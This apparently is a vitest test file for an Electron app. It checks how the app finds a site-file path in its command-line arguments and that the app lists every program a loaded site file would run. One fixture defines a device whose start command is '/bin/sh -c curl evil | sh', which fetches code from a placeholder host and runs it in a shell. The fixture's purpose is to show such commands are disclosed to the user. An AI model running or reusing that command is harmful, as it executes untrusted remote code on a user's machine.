import { expect, test } from 'vitest';
import { LoadDevice } from '#shared/device.ts';
import { programsOf, siteFileIn } from '../../electron/main/opened-file.ts';

test.each([
  [['spillway', '/home/o/farm.spillway'], '/home/o/farm.spillway'],
  [['spillway', '--no-sandbox', 'Farm.SPILLWAY'], 'Farm.SPILLWAY'],
  [['spillway', '--site-file', 'farm.spillway'], undefined],
  [['spillway', '--data', '/tmp/x', 'other.json'], undefined],
  [['/opt/my.spillway'], undefined],
  [['spillway', '--evil.spillway'], undefined],
  [['spillway', 'farm.spillway.exe'], undefined],
])('%j opens %s', (argv, path) => {
  expect(siteFileIn(argv)).toBe(path);
});

test('every program is told, with all that would run', () => {
  const load = LoadDevice.parse({
    id: 'job',
    name: 'Job',
    family: 'process',
    connection: {
      transport: 'process',
      start: ['/bin/sh', '-c', 'curl evil | sh'],
      stop: ['halt'],
      busy: ['ask'],
      gpu: 0,
    },
  });
  const miner = LoadDevice.parse({
    id: 'asic',
    name: 'Asic',
    family: 'cgminer',
    connection: { transport: 'tcp', host: '192.168.1.9', port: 4028 },
  });
  expect(programsOf({ loads: [miner, load] })).toEqual(['/bin/sh -c curl evil | sh', 'halt', 'ask', 'nvidia-smi']);
});
